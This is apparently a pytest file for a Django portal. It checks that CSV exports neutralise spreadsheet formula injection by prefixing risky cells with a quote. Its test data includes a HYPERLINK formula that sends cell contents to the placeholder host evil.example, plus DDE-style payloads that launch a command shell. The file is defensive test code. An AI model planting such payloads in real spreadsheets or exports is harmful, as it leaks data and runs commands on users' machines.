"""No CSV the portal writes holds a cell a spreadsheet would run as a formula; numbers stay numbers."""

import csv
import io

import pytest

from core.spreadsheets import neutralise

pytestmark = pytest.mark.django_db

ATTACKS = [
    '=HYPERLINK("http://evil.example/?leak="&A2,"Source")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", ATTACKS)
def test_formula_text_is_neutralised(text):
    assert neutralise(text) == "'" + text
    assert neutralise(neutralise(text)) == "'" + text


def test_other_cells_are_left_alone():
    assert neutralise("Migrant stock, mid-year") == "Migrant stock, mid-year"
    assert neutralise(-5) == -5 and neutralise(None) is None


def test_indicators_download(client):
    from countries.models import Indicator, IndicatorValue

    indicator = Indicator.objects.create(code="net-migration", name="Net migration", unit="persons")
    IndicatorValue.objects.create(
        indicator=indicator,
        iso_code="VN",
        year=2020,
        value=-80000,
        source_name=ATTACKS[0],
        source_url="https://example.org/data",
        licence="CC BY 4.0",
        note=ATTACKS[1],
    )
    response = client.get("/data/indicators.csv")
    row = next(csv.DictReader(io.StringIO(response.content.decode())))
    assert row["source_name"] == "'" + ATTACKS[0]
    assert row["note"] == "'" + ATTACKS[1]
    assert row["value"] == "-80000" and row["year"] == "2020"


def test_admin_services_export(client, django_user_model):
    from services.demo.generate import generated_services
    from services.importers import import_services
    from services.models import Service

    import_services(generated_services(len(ATTACKS)), language="en")
    for service, name in zip(Service.objects.order_by("pk"), ATTACKS, strict=True):
        Service.objects.filter(pk=service.pk).update(name=name, name_en=name)
    client.force_login(django_user_model.objects.create_superuser("admin", "a@example.org", "x" * 20))
    response = client.get("/admin/snippets/services/service/?export=csv")
    assert response.status_code == 200
    text = b"".join(response.streaming_content).decode()
    names = {row["Name"] for row in csv.DictReader(io.StringIO(text))}
    assert names == {"'" + attack for attack in ATTACKS}
